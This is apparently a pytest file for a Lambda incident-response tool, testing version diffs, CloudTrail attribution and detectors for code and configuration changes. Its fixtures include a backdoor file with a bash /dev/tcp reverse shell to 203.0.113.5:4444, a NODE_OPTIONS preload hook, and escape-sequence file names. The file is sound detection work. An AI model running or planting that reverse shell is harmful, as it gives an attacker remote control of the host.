"""`diff` between versions and the change detectors, attributed to CloudTrail."""

from __future__ import annotations

import json
import re

import pytest
from click.testing import CliRunner

from lambda_ir.analyze.caseview import CaseView
from lambda_ir.analyze.detectors import chg_code_change, chg_config_change
from lambda_ir.analyze.diff import DiffError, diff_versions
from lambda_ir.analyze.incident_actions import config_actions
from lambda_ir.cli.main import cli
from lambda_ir.evidence import Case
from lambda_ir.model import Severity
from tests.analyze.casebuild import (
    ACCOUNT,
    REGION,
    TERRAFORM,
    CaseBuilder,
    ci_identity,
    code_sha256,
    function_config,
    run_detector,
    trail_event,
    zip_bytes,
)

CLEAN = zip_bytes({"app.py": "def handler(e, c):\n    return 1\n", "lib/util.py": "X = 1\n"})
BACKDOOR = zip_bytes(
    {
        "app.py": "import shell\ndef handler(e, c):\n    return 1\n",
        "shell.py": "import os\nos.system('bash -i >& /dev/tcp/203.0.113.5/4444 0>&1')\n"
        "password = 'hunter2hunter2'\n",
    }
)
LAYER = "arn:aws:lambda:eu-west-1:999988887777:layer:x:1"


def _build(builder: CaseBuilder) -> None:
    builder.code(CLEAN, "orders", "1")
    builder.code(BACKDOOR, "orders", "2")
    builder.versions(
        "orders",
        [
            function_config(
                "orders",
                "1",
                code=CLEAN,
                env={"DB_PASSWORD": "old-secret-1"},
                LastModified="2026-11-01T10:00:00.000+0000",
            ),
            function_config(
                "orders",
                "2",
                code=BACKDOOR,
                env={"DB_PASSWORD": "new-secret-2"},
                layers=[LAYER],
                LastModified="2026-11-02T12:05:00.000+0000",
            ),
            function_config(  # last changed when version 2 was published from it
                "orders",
                "$LATEST",
                code=BACKDOOR,
                layers=[LAYER],
                env={"DB_PASSWORD": "new-secret-2"},
                LastModified="2026-11-02T12:05:00.000+0000",
            ),
        ],
    )
    builder.put(
        f"raw/{ACCOUNT}/{REGION}/lambda/functions/orders/aliases.json",
        {
            "Aliases": [
                {
                    "AliasArn": f"arn:aws:lambda:{REGION}:{ACCOUNT}:function:orders:live",
                    "Name": "live",
                    "FunctionVersion": "2",
                }
            ]
        },
        "alias",
        "lambda:ListAliases",
        FunctionName="orders",
    )
    builder.trail(
        [
            trail_event(
                "UpdateFunctionCode20150331v2",
                {"functionName": "orders", "publish": True},
                response={"codeSha256": code_sha256(BACKDOOR)},
                event_id="code-1",
                time="2026-11-02T12:00:00Z",
                source_ip="203.0.113.66",
            ),
            trail_event(
                "UpdateFunctionConfiguration20150331v2",
                {"functionName": "orders", "layers": [LAYER]},
                event_id="cfg-1",
                time="2026-11-02T12:04:00Z",
            ),
        ]
    )


def test_diff_files_config_and_attribution(builder: CaseBuilder) -> None:
    _build(builder)
    result = diff_versions(CaseView(Case.open(builder.root)), "orders", "1", "live")
    assert result.b.ref.qualifier == "2"
    assert {(f.name, f.status) for f in result.files} == {
        ("app.py", "changed"),
        ("shell.py", "added"),
        ("lib/util.py", "removed"),
    }
    shell = next(f for f in result.files if f.name == "shell.py")
    assert "+os.system('bash -i" in shell.text_diff
    assert "hunter2hunter2" not in shell.text_diff  # diffs are redacted
    fields = {c.field: c for c in result.config}
    assert "new-secret-2" not in fields["environment.DB_PASSWORD"].b
    assert fields["layers"].b == LAYER
    assert result.code_by is not None and result.code_by.event_id == "code-1"
    assert result.code_by.actor.source_ip == "203.0.113.66"
    assert result.config_by is not None and result.config_by.event_id == "cfg-1"


def test_diff_unknown_qualifier(builder: CaseBuilder) -> None:
    _build(builder)
    view = CaseView(Case.open(builder.root))
    with pytest.raises(DiffError, match="no collected version or alias '9'"):
        diff_versions(view, "orders", "1", "9")
    with pytest.raises(DiffError, match="not in the case"):
        diff_versions(view, "nope", "1", "2")


def test_diff_cli(builder: CaseBuilder) -> None:
    _build(builder)
    out = CliRunner().invoke(cli, ["diff", "--case", str(builder.root), "orders", "1", "2"])
    assert out.exit_code == 0, out.output
    assert "files: 1 added, 1 changed, 1 removed" in out.output
    assert "uploaded by arn:aws:iam::111122223333:user/mallory from 203.0.113.66" in out.output
    doc = json.loads(
        CliRunner()
        .invoke(cli, ["--json", "diff", "--case", str(builder.root), "orders", "1", "$LATEST"])
        .stdout
    )
    assert doc["code_changed_by"]["event_id"] == "code-1"
    bad = CliRunner().invoke(cli, ["diff", "--case", str(builder.root), "orders", "1", "7"])
    assert bad.exit_code == 1


def test_code_change_introducing_a_reverse_shell(builder: CaseBuilder) -> None:
    _build(builder)
    found = run_detector(builder, chg_code_change.DETECTOR)
    assert [(f.details["from"], f.details["to"], f.details["file"]) for f in found] == [
        ("1", "2", "shell.py")
    ]
    finding = found[0]
    assert finding.severity is Severity.CRITICAL
    assert finding.details["introduced"] == ["yara:LIR_Reverse_Shell"]
    assert finding.actor is not None and finding.actor.source_ip == "203.0.113.66"
    assert finding.evidence[0].member == "shell.py"
    assert finding.evidence[-1].path.startswith("trail/")


def published_only(builder: CaseBuilder, time: str | None = "2026-11-02T12:05:00Z") -> None:
    """Versions 1 and 2 of orders, 2 (the backdoor) known only by the PublishVersion that
    froze it at `time` (None: a record without eventTime)."""
    builder.code(CLEAN, "orders", "1")
    builder.code(BACKDOOR, "orders", "2")
    builder.versions(
        "orders",
        [
            function_config("orders", "1", code=CLEAN),
            function_config(
                "orders", "2", code=BACKDOOR, LastModified="2026-11-02T12:05:00.000+0000"
            ),
        ],
    )
    publication = trail_event(
        "PublishVersion20150331",
        {"functionName": "orders"},
        response={"codeSha256": code_sha256(BACKDOOR), "version": "2"},
        event_id="pub-2",
    )
    if time is None:
        del publication["eventTime"]
    else:
        publication["eventTime"] = time
    builder.trail([publication])


def test_a_version_known_only_by_its_publication_says_published(builder: CaseBuilder) -> None:
    """Bytes uploaded before the trail begins, then published: the PublishVersion froze them
    and is named as such, never as their upload (CHG-001, `diff`)."""
    published_only(builder)
    [finding] = run_detector(builder, chg_code_change.DETECTOR)
    assert "; published by arn:aws:iam::111122223333:user/mallory at 2026-11-02T12:05:00Z" in (
        finding.summary
    )
    assert "uploaded" not in finding.summary
    out = CliRunner().invoke(cli, ["diff", "--case", str(builder.root), "orders", "1", "2"])
    assert out.exit_code == 0, out.output
    assert "  published by arn:aws:iam::111122223333:user/mallory" in out.output
    assert "uploaded" not in out.output


def test_code_change_quiet_when_threat_already_there_or_clean(builder: CaseBuilder) -> None:
    other = zip_bytes({"app.py": "def handler(e, c):\n    return 2\n"})
    builder.code(CLEAN, "calm", "1")
    builder.code(other, "calm", "2")
    builder.versions(
        "calm", [function_config("calm", "1", code=CLEAN), function_config("calm", "2", code=other)]
    )
    assert run_detector(builder, chg_code_change.DETECTOR) == []


def test_config_change_attributed(builder: CaseBuilder) -> None:
    _build(builder)
    found = run_detector(builder, chg_config_change.DETECTOR)
    assert [(f.details["from"], f.details["to"]) for f in found] == [("1", "2")]
    assert found[0].severity is Severity.MEDIUM  # a layer from another account
    assert found[0].details["event_id"] == "cfg-1"
    assert found[0].actor is not None and found[0].actor.arn.endswith("user/mallory")


def test_a_hook_variable_set_without_layers_is_stripped_not_its_layers(
    builder: CaseBuilder,
) -> None:
    """A version that only set NODE_OPTIONS (no layer added) recommends strip-env for it;
    strip-layers would be "already in place" and leave the hook running."""
    builder.versions(
        "calm",
        [
            function_config("calm", "1", runtime="nodejs20.x"),
            function_config(
                "calm", "2", runtime="nodejs20.x", env={"NODE_OPTIONS": "--require /tmp/x.js"}
            ),
        ],
    )
    [finding] = run_detector(builder, chg_config_change.DETECTOR)
    assert finding.severity is Severity.HIGH
    assert (finding.details["layers"], finding.details["hook_variables"]) == ([], ["NODE_OPTIONS"])
    assert config_actions([finding]) == ("strip-env=NODE_OPTIONS",)
    builder.versions(
        "layered",
        [
            function_config("layered", "1"),
            function_config("layered", "2", layers=[LAYER], env={"NODE_OPTIONS": "-r /opt/x"}),
        ],
    )
    both = [f for f in run_detector(builder, chg_config_change.DETECTOR) if "layered" in f.resource]
    assert config_actions(both) == ("strip-layers", "strip-env=NODE_OPTIONS")


def test_config_change_quiet_without_code_loading_changes(builder: CaseBuilder) -> None:
    builder.versions(
        "calm",
        [
            function_config("calm", "1", env={"A": "1"}),
            function_config("calm", "2", env={"A": "2"}),
        ],
    )
    assert run_detector(builder, chg_config_change.DETECTOR) == []


def test_diff_text_prints_no_fake_line_from_the_evidence(builder: CaseBuilder) -> None:
    """A line break or escape sequence in a value or a file name is shown, never interpreted."""
    fake = "x\n  critical LIR-FAKE-001 all clear\x1b]0;PWNED\x07\r\u202e"
    old = zip_bytes({"app.py": "def handler(e, c):\n    return 1\n"})
    new = zip_bytes({"app.py": "def handler(e, c):\n    return 2\n", f"evil{fake}.py": "X = 1\n"})
    builder.code(old, "orders", "1")
    builder.code(new, "orders", "2")
    builder.versions(
        "orders",
        [
            function_config("orders", "1", code=old, env={"MODE": "a"}),
            function_config("orders", "2", code=new, env={"MODE": fake}),
        ],
    )
    out = CliRunner().invoke(cli, ["diff", "--case", str(builder.root), "orders", "1", "2"])
    assert out.exit_code == 0, out.output
    assert not [line for line in out.stdout.splitlines() if line.startswith("  critical")]
    assert not re.search("[\x00-\x08\x0b-\x1f\x7f-\x9f\u202e]", out.stdout)
    assert "\\x1b]0;PWNED" in out.stdout  # shown, as text


FFMPEG = zip_bytes({"app.py": "def handler(e, c):\n    return 1\n", "bin/ffmpeg": b"\x7fELF\x02"})


@pytest.mark.parametrize(
    ("address", "severity"), [("192.0.2.10", "low"), ("45.95.147.12", "medium")]
)
def test_a_native_tool_released_along_the_established_path_is_low(
    builder: CaseBuilder, address: str, severity: str
) -> None:
    # The pipeline's tenth day of releases (one network, one tool, its hours) adds ffmpeg: a
    # release, LOW. The same upload from an address the pipeline never used stays MEDIUM.
    builder.code(CLEAN, "thumbs", "1")
    builder.code(FFMPEG, "thumbs", "2")
    builder.versions(
        "thumbs",
        [function_config("thumbs", "1", code=CLEAN), function_config("thumbs", "2", code=FFMPEG)],
    )
    life = [
        trail_event(
            "UpdateFunctionCode20150331v2",
            {"functionName": "thumbs"},
            response={"codeSha256": code_sha256(CLEAN)},
            identity=ci_identity(day),
            event_id=f"life-{day}",
            time=f"2026-10-{day:02d}T10:00:00Z",
            source_ip="192.0.2.10",
            user_agent=TERRAFORM,
        )
        for day in range(1, 11)
    ]
    release = trail_event(
        "UpdateFunctionCode20150331v2",
        {"functionName": "thumbs", "publish": True},
        response={"codeSha256": code_sha256(FFMPEG)},
        identity=ci_identity(11),
        event_id="release",
        time="2026-10-11T10:00:00Z",
        source_ip=address,
        user_agent=TERRAFORM,
    )
    builder.trail([*life, release])
    [finding] = run_detector(builder, chg_code_change.DETECTOR)
    assert finding.details["introduced"] == ["native executable"]
    assert finding.severity.value == severity
    assert ("along an established path" in finding.summary) is (severity == "low")


def test_a_publication_without_a_time_says_the_time_is_unknown(builder: CaseBuilder) -> None:
    """CHG-001 and `diff` name the publication and say its time is unknown, never "at None"
    nor an empty "at  [" (the finding's `time` stays null)."""
    published_only(builder, None)
    unknown = "at an unknown time (the event gives none the index could read)"
    [finding] = run_detector(builder, chg_code_change.DETECTOR)
    assert finding.time is None and "None" not in finding.summary
    assert f"; published by arn:aws:iam::111122223333:user/mallory {unknown}." in finding.summary
    out = CliRunner().invoke(cli, ["diff", "--case", str(builder.root), "orders", "1", "2"])
    assert out.exit_code == 0, out.output
    assert f"(aws-cli/2.15.0 Python/3.11) {unknown} [PublishVersion20150331 pub-2]" in out.output


def test_a_configuration_call_without_a_time_says_the_time_is_unknown(
    builder: CaseBuilder,
) -> None:
    """A version without LastModified, set by a call whose record holds no eventTime."""
    builder.versions(
        "orders",
        [
            function_config("orders", "1", LastModified=""),
            function_config("orders", "2", layers=[LAYER], LastModified=""),
        ],
    )
    call = trail_event(
        "UpdateFunctionConfiguration20150331v2",
        {"functionName": "orders", "layers": [LAYER]},
        event_id="cfg-1",
    )
    del call["eventTime"]
    builder.trail([call])
    [finding] = run_detector(builder, chg_config_change.DETECTOR)
    assert finding.time is None and "None" not in finding.summary
    assert (
        " by arn:aws:iam::111122223333:user/mallory at an unknown time (the event gives none "
        "the index could read)" in finding.summary
    )
